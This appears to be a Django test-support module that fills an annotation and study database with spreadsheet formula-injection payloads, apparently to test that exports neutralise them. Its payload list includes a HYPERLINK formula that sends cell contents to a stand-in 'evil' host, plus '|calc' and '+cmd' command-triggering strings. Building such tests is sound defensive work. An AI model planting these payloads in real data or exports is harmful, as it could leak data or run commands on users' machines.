"""A database where every text field a person or a model can fill holds a spreadsheet formula.

Built the way the text arrives: participants join a study through its public form (PROLIFIC_PID, STUDY_ID,
SESSION_ID) and replay an answer with a formula as the chosen option (a refused answer); items are imported
from JSONL whose ids, source, context, question, options and clue graph are formulas; annotators with
formula user names verify items and comment; a judge records labels whose choices, target, aspect,
rationale and belief source are formulas and a reviewer answers them; two built-in endpoints run a method
over the items. Then every other free-text column of the apps' models (found from the models, not listed)
is overwritten with a formula too, except the few that the app resolves as names (KEEP).

`build()` returns the values that fill the routes' path parameters (tests/support/routes.py).
"""
from __future__ import annotations

import itertools
import json
from urllib.parse import quote, urlencode

from django.apps import apps
from django.contrib.auth.models import Group
from django.db import models
from django.test import Client
from django.urls import reverse

#: The issue's payloads: each starts a formula in Excel, LibreOffice or Google Sheets unless neutralised.
PAYLOADS = ('=HYPERLINK("http://evil/"&A1,"x")', "+1+cmd", "-2+3", "@SUM(1)", "|calc", "\t=1", "\n=1", "%0A=1")
HX = {"HTTP_HX_REQUEST": "true"}
#: What each participant sends when joining: (PROLIFIC_PID, STUDY_ID, SESSION_ID). The participant ids differ
#: even once their leading white space is stripped, as the join does.
JOINS = tuple((f"{p}{n}", PAYLOADS[(n + 1) % len(PAYLOADS)], PAYLOADS[(n + 2) % len(PAYLOADS)])
              for n, p in enumerate(PAYLOADS))
#: The chosen option each participant's replayed answer sends (stored as a refused answer).
REPLAYS = tuple(PAYLOADS[(n + 4) % len(PAYLOADS)] for n in range(len(PAYLOADS)))

#: Text columns the app resolves as names, keys or states, not free text (filled with a formula they would
#: only make the world unreachable): model label -> fields.
KEEP = {
    "auth.User": {"password"},  # a hash
    "annotation.Item": {"split"},  # the selection of runs and studies (the leaderboard is asked for a split)
    "annotation.BeliefQueue": {"name"},  # a slug in addresses
    "annotation.BeliefLabel": {"label", "final_label"},  # one of the label's choices (recorded with formulas)
    "annotation.BeliefReview": {"human_label"},  # compared with the label
    "studies.Study": {"slug", "pool_split"},
    "studies.Attempt": {"token", "language"},
    "studies.Response": {"language"},
    "evaluation.ModelEndpoint": {"base_url", "api_key_env"},  # where a model is asked, and its key's variable
    "evaluation.Run": {"method", "split", "item_status", "question_type"},  # a method's name, the selection
    "evaluation.Result": {"parse_status", "error", "error_class", "failed_call", "finish_reason"},  # states
    "evaluation.CachedResponse": {"key"},
    "evaluation.JudgeConfig": {"template"},
}
APPS = ("annotation", "studies", "evaluation")


def _cycle():
    return itertools.cycle(PAYLOADS)


def _user(name: str, group: str, **extra):
    from django.contrib.auth import get_user_model

    user = get_user_model().objects.create_user(username=name, password="pw-hostile", **extra)
    user.groups.add(Group.objects.get_or_create(name=group)[0])
    return user


def _items(payloads) -> list:
    from annotation.models import Item, ItemStatus
    from tests.support.items import import_text

    records = []
    for i, payload in enumerate(PAYLOADS):
        options = [next(payloads) for _ in range(4)]
        records.append({"id": payload, "context": next(payloads), "question": next(payloads), "options": options,
                        "answer": i % 4, "clue_graph": {"evidence": next(payloads),
                                                        "multi_hop_reasoning": next(payloads)}})
    report = import_text("\n".join(json.dumps(r) for r in records) + "\n", file_name="hostile.jsonl",
                         source=PAYLOADS[0], split="test")
    assert report.created == len(PAYLOADS), report.summary()
    items = list(Item.objects.filter(source=PAYLOADS[0]).order_by("pk"))
    Item.objects.filter(pk__in=[i.pk for i in items]).update(status=ItemStatus.VERIFICATION)
    return items


def _verification(items, annotators, payloads) -> int:
    """Two annotators disagree on some items: agreement figures per rater pair, an adjudication opened."""
    from annotation.models import Adjudication, Stage
    from annotation.services import verification_submit
    from tests.annotation.workflow_support import set_k

    set_k(Stage.VERIFICATION, 2)
    for item, (first, second) in zip(items[:4], [("keep", "keep"), ("delete", "delete"), ("keep", "delete"),
                                                  ("delete", "keep")]):
        for user, decision in zip(annotators, (first, second)):
            verification_submit(item_id=item.pk, user=user, decision=decision,
                                criteria=["bias"] if decision == "delete" else [], comment=next(payloads),
                                item_version=item.version)
    return Adjudication.objects.order_by("pk").values_list("pk", flat=True).first()


def _belief(items, reviewer, payloads):
    """A judge's labels with formula choices and text, two reviewed by a reviewer, one still leased."""
    from annotation.services.belief import belief_labels_record, belief_queue_for
    from annotation.services.belief_review import belief_lease_next, belief_review_submit

    queue = belief_queue_for(name="hostile-judge")
    choices = [PAYLOADS[0], PAYLOADS[2]]
    rows = []
    for n, item in enumerate(items[4:7]):
        rows.append({"item_id": item.pk, "item_version": item.version, "task": "free-text",
                     "target": f"{PAYLOADS[n % len(PAYLOADS)]}{n}"[:64], "aspect": PAYLOADS[(n + 1) % 5][:32],
                     "label": choices[n % 2], "choices": choices, "payload": {"answer": next(payloads)},
                     "belief": 0.3 + 0.2 * n, "belief_source": PAYLOADS[(n + 3) % 5][:20], "status": "scored",
                     "rationale": next(payloads), "raw_output": next(payloads), "prompt_hash": "h",
                     "producer": PAYLOADS[n % 5], "tokens": 1, "latency_ms": 1})
    belief_labels_record(queue=queue, rows=rows)
    for human in choices:
        lease = belief_lease_next(queue_id=queue.pk, user=reviewer)
        belief_review_submit(lease_id=lease.pk, user=reviewer, human_label=human, comment=next(payloads))
    return queue, belief_lease_next(queue_id=queue.pk, user=reviewer)


def _study(items) -> tuple:
    """One participant per payload joins through the public form, answers once and replays the answer with a
    formula as the chosen option (stored as a refused answer)."""
    from studies.models import Attempt, RefusedAnswer, StudyStatus
    from studies.services import question_open, study_create

    study = study_create(slug="hostile-study", item_ids=[i.pk for i in items], per_participant=2,
                         raters=len(PAYLOADS), time_limit_seconds=600, status=StudyStatus.OPEN,
                         completion_code="CODE-1")
    for (pid, study_id, session_id), replayed in zip(JOINS, REPLAYS):
        client = Client()
        joined = client.post(reverse("studies_public:join", args=[study.slug]), {
            "consent": "yes", "PROLIFIC_PID": pid, "STUDY_ID": study_id, "SESSION_ID": session_id})
        assert joined.status_code == 302, (pid, joined.status_code)
        attempt = Attempt.objects.get(token=joined["Location"].rstrip("/").split("/")[-1])
        client.post(reverse("studies_public:start", args=[attempt.token]))
        attempt.refresh_from_db()
        position = question_open(attempt=attempt).lease.position
        url = reverse("studies_public:answer", args=[attempt.token])
        answered = client.post(url, {"position": position, "chosen_option": 0, "highlights": "[]"}, **HX)
        assert answered.status_code in (200, 204), answered.status_code
        replay = urlencode({"position": position, "highlights": "[]"}) + "&chosen_option=" + quote(replayed)
        refused = client.post(url, replay, content_type="application/x-www-form-urlencoded", **HX)
        assert refused.status_code == 409, refused.status_code
    assert RefusedAnswer.objects.filter(attempt__study=study).count() == len(PAYLOADS)
    return study, Attempt.objects.filter(study=study).order_by("pk").first()


def _runs(payloads) -> list:
    """Two built-in endpoints answer the items (their answers differ: a comparison has rows); then their names,
    models and the runs' notes are formulas."""
    from evaluation.models import ModelEndpoint, Run
    from evaluation.services import runs as evaluation_services
    from tests.evaluation.conftest import compute_rows

    runs = []
    for builtin in ("random", "first-option"):
        endpoint = evaluation_services.endpoint_for_cli(builtin=builtin)
        runs.append(compute_rows(evaluation_services.run_launch(endpoint=endpoint, method="naive", split="test",
                                                                 note=next(payloads), enqueue=False)))
    for n, run in enumerate(runs):
        ModelEndpoint.objects.filter(pk=run.endpoint_id).update(name=f"{PAYLOADS[n]} {n}", model=next(payloads))
        Run.objects.filter(pk=run.pk).update(prompt_version=PAYLOADS[n + 1][:20])
    return runs


_FILLED = PAYLOADS + tuple(p.strip() for p in PAYLOADS)  # a payload, also as stored with its white space stripped


def _fits(field, text: str) -> bool:
    return field.max_length is None or len(text) <= field.max_length


def overwrite_free_text(payloads) -> int:
    """Every free-text column of the apps' models (no choices, not in KEEP) that does not already start with a
    payload gets one (unique columns a distinct one). Returns how many values were written."""
    from django.contrib.auth import get_user_model

    written = 0
    models_ = [m for m in apps.get_models() if m._meta.app_label in APPS] + [get_user_model()]
    for model in models_:
        keep = KEEP.get(model._meta.label, set())
        fields = [f for f in model._meta.concrete_fields if isinstance(f, (models.CharField, models.TextField))
                  and not f.choices and f.name not in keep]
        if not fields:
            continue
        for pk, *values in model._default_manager.values_list("pk", *[f.attname for f in fields]):
            update = {}
            for field, value in zip(fields, values):
                if isinstance(value, str) and value.startswith(_FILLED):
                    continue
                for _ in PAYLOADS:
                    text = next(payloads)
                    text = f"{text} {pk}" if field.unique or field.name == "external_id" else text
                    if _fits(field, text):
                        update[field.attname] = text
                        break
            if update:
                model._default_manager.filter(pk=pk).update(**update)
                written += len(update)
    return written


def build() -> dict:
    """The hostile world; the values that fill path parameters (tests/support/routes.PARAMETERS)."""
    from django.core.cache import cache

    from annotation.models import Stage, StageConfig
    from evaluation.models import Result

    cache.clear()  # throttle counts of earlier tests
    StageConfig.objects.get_or_create(stage=Stage.VERIFICATION)
    payloads = _cycle()
    annotators = [_user(PAYLOADS[0], "annotators"), _user(PAYLOADS[2], "annotators")]
    reviewer = _user(PAYLOADS[3], "annotators")
    items = _items(payloads)
    adjudication = _verification(items, annotators, payloads)
    queue, lease = _belief(items, reviewer, payloads)
    study, attempt = _study(items)
    runs = _runs(payloads)
    overwrite_free_text(payloads)
    return {
        "item": items[0].pk, "adjudication": adjudication or 999999, "belief_lease": lease.pk if lease else 999999,
        "belief_queue": queue.name, "study": study.slug, "attempt": attempt.pk, "token": attempt.token,
        "run": runs[0].pk, "runs": [r.pk for r in runs],
        "result": Result.objects.filter(run=runs[0]).values_list("pk", flat=True).first(),
        "endpoint": runs[0].endpoint_id,
    }
